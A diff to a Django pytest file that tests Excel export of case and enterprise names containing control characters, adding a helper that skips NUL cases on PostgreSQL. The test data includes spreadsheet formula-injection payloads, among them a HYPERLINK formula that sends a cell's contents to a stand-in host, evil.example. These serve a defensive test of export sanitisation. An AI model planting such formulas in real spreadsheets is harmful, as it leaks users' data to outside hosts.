@@ -25,6 +25,13 @@ CONTROLS = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\uf
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1"]
 
 
+def skip_nul_on_postgresql(char):
+    from django.db import connection
+
+    if char == "\x00" and connection.vendor == "postgresql":
+        pytest.skip("PostgreSQL cannot hold a NUL: no legacy row can have one there")
+
+
 def workbook_rows(content: bytes, sheet=None):
     book = load_workbook(BytesIO(content))
     ws = book[sheet] if sheet else book.active
@@ -87,6 +94,7 @@ def test_no_module_writes_a_workbook_but_core_export():
 
 @pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1f"])
 def test_case_ledger_exports_names_with_control_characters(client, world, char):
+    skip_nul_on_postgresql(char)
     case = register(world).case
     Case.objects.filter(pk=case.pk).update(employer_name=f"益民{char}食品", project_name='=HYPERLINK("http://evil.example","x")')
     Enterprise.objects.filter(pk=world.enterprises["factory_a"].pk).update(name=f"东花{char}服装厂")
@@ -102,6 +110,7 @@ def test_case_ledger_exports_names_with_control_characters(client, world, char):
 
 @pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1f"])
 def test_enterprise_export_with_control_characters_and_formulas(client, world, char):
+    skip_nul_on_postgresql(char)
     Enterprise.objects.filter(pk=world.enterprises["factory_a"].pk).update(name=f"东花{char}服装厂", address="=1+1")
     client.force_login(world.users["office_staff"])
     response = client.get(reverse("registry:enterprise_list"), {"export": "xlsx"})
